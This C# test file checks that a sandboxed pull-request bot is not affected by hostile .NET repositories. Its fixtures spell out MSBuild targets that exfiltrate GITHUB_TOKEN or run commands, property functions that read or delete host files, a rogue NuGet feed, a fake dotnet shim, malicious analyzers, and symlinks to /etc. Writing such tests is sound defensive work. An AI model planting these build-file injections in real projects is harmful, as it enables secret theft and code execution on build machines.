using Containerize.PullRequests.Sandboxing;

namespace Containerize.PullRequests.Tests.Runs;

/// <summary>A repository that wants more than to be read has no effect outside the sandbox, and no secret gets into what the bot writes.</summary>
public sealed class HostileRepositoryTests : IDisposable
{
    private const string Token = "ghs_5u9e7Secret";

    private readonly TestRepository _repository = new();
    private readonly TemporaryFolder _outside = new();

    public HostileRepositoryTests() => Environment.SetEnvironmentVariable("GITHUB_TOKEN", Token);

    [SandboxFact]
    public async Task A_target_that_writes_a_file_never_runs()
    {
        await HarmlessAsync($"""
            <Project Sdk="Microsoft.NET.Sdk.Web" InitialTargets="Evil">
              <PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup>
              <Target Name="Evil" BeforeTargets="Build;Restore;CollectPackageReferences">
                <WriteLinesToFile File="{_outside["written"]}" Lines="$(GITHUB_TOKEN)" />
                <Exec Command="touch {_outside["executed"]}" />
              </Target>
            </Project>
            """);
        Assert.False(File.Exists(_outside["written"]) || File.Exists(_outside["executed"]));
    }

    [SandboxFact]
    public async Task A_property_function_finds_no_token_in_the_environment()
    {
        var text = await HarmlessAsync("""
            <Project Sdk="Microsoft.NET.Sdk.Web">
              <PropertyGroup>
                <TargetFramework>net10.0</TargetFramework>
                <Found>$(GITHUB_TOKEN)$([System.Environment]::GetEnvironmentVariable('GITHUB_TOKEN'))</Found>
                <AssemblyName>Pier.Api.$(Found)x</AssemblyName>
                <ContainerRepository>team/found$(Found.ToLowerInvariant().Replace('_', '-'))x</ContainerRepository>
              </PropertyGroup>
            </Project>
            """);
        Assert.Contains("team/foundx", text, StringComparison.Ordinal);
    }

    [SandboxFact]
    public async Task A_property_function_that_reads_files_of_this_machine_finds_none()
    {
        _outside.Write("secret", Token);
        await HarmlessAsync($"""
            <Project Sdk="Microsoft.NET.Sdk.Web">
              <PropertyGroup>
                <TargetFramework>net10.0</TargetFramework>
                <Found Condition="Exists('{_outside["secret"]}')">$([System.IO.File]::ReadAllText('{_outside["secret"]}'))</Found>
                <Version>1.0.0-$(Found)</Version>
              </PropertyGroup>
              <Import Project="{_outside["secret"]}" Condition="Exists('{_outside["secret"]}')" />
            </Project>
            """);
    }

    [SandboxFact]
    public async Task A_property_function_that_deletes_a_folder_is_not_evaluated()
    {
        _outside.Write("folder/file", "");
        Solutions.Small(_repository, project: $"""
            <Project Sdk="Microsoft.NET.Sdk.Web">
              <PropertyGroup>
                <TargetFramework>net10.0</TargetFramework>
                <Gone>$([System.IO.Directory]::GetParent('{_outside["folder/file"]}').Delete(true))</Gone>
              </PropertyGroup>
            </Project>
            """);
        _repository.Commit();
        await Assert.ThrowsAsync<ContainerizeException>(() => TestRun.Async(_repository));
        Assert.True(File.Exists(_outside["folder/file"]));
    }

    [SandboxFact]
    public async Task Analyzers_hooks_and_settings_of_the_toolchain_are_not_loaded()
    {
        _repository.Write("before.Pier.sln.targets", Touch("solution"));
        _repository.Write("Directory.Build.targets", Touch("targets"));
        _repository.Write("Directory.Build.rsp", "-logger:Evil,./evil.dll");
        _repository.Write("nuget.config", "<configuration><packageSources><clear/><add key=\"evil\" value=\"http://192.0.2.1/index.json\" /></packageSources></configuration>");
        _repository.Write("global.json", "{ \"sdk\": { \"version\": \"10.0.100\", \"rollForward\": \"latestMajor\", \"paths\": [\"evil\"] }, \"msbuild-sdks\": { \"Evil.Sdk\": \"1.0.0\" } }");
        _repository.Write("evil/dotnet", $"#!/bin/sh\ntouch {_outside["host"]}\n");
        await HarmlessAsync("""
            <Project Sdk="Microsoft.NET.Sdk.Web">
              <Sdk Name="Evil.Sdk" Version="1.0.0" />
              <PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup>
              <ItemGroup>
                <Analyzer Include="../../evil.dll" />
                <PackageReference Include="Evil.Analyzer" Version="1.0.0" />
              </ItemGroup>
            </Project>
            """);
        Assert.Empty(_outside.Snapshot());
    }

    [SandboxFact]
    public async Task Links_to_this_machine_are_not_followed()
    {
        _outside.Write("secret.json", $"{{ \"Token\": \"{Token}\" }}");
        Directory.CreateSymbolicLink(_repository["etc"], "/etc");
        Directory.CreateDirectory(_repository["src/Pier.Api"]);
        File.CreateSymbolicLink(_repository["src/Pier.Api/appsettings.json"], _outside["secret.json"]);
        var text = await HarmlessAsync(Solutions.Project);
        Assert.Contains("Not read, because the bot follows none of these: 2 symbolic links.", text, StringComparison.Ordinal);
    }

    [SandboxFact]
    public async Task An_analysis_that_takes_too_long_is_ended_and_said()
    {
        Solutions.Small(_repository);
        _repository.Commit();
        var error = await Assert.ThrowsAsync<ContainerizeException>(() => TestRun.Async(_repository, SandboxLimits.Default with { Time = TimeSpan.FromMilliseconds(1) }));
        Assert.Equal(ExitCode.Solution, error.ExitCode);
        Assert.Contains("was ended", error.Message, StringComparison.Ordinal);
    }

    [SandboxFact]
    public async Task Settings_that_are_nested_without_end_are_refused()
    {
        Solutions.Small(_repository);
        _repository.Write("containerize.yaml", "bot: " + new string('[', 100_000));
        _repository.Commit();
        var error = await Assert.ThrowsAsync<ContainerizeException>(() => TestRun.Async(_repository));
        Assert.Equal(ExitCode.Usage, error.ExitCode);
    }

    public void Dispose()
    {
        _repository.Dispose();
        _outside.Dispose();
    }

    private string Touch(string name) => $"<Project InitialTargets=\"Evil\"><Target Name=\"Evil\"><Exec Command=\"touch {_outside[name]}\" /></Target></Project>";

    // Everything that is written for others, in one text.
    private async Task<string> HarmlessAsync(string project)
    {
        Solutions.Small(_repository, project: project);
        _repository.Commit();
        var result = await TestRun.Async(_repository);
        Assert.NotNull(result.Proposal);
        var text = string.Join('\n', result.Proposal.Files.Select(f => f.Path + "\n" + f.After).Append(result.Proposal.Title).Append(result.Proposal.Body).Append(result.Proposal.CommitMessage));
        Assert.DoesNotContain(Token, text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("5u9e7", text, StringComparison.OrdinalIgnoreCase);
        return text;
    }
}
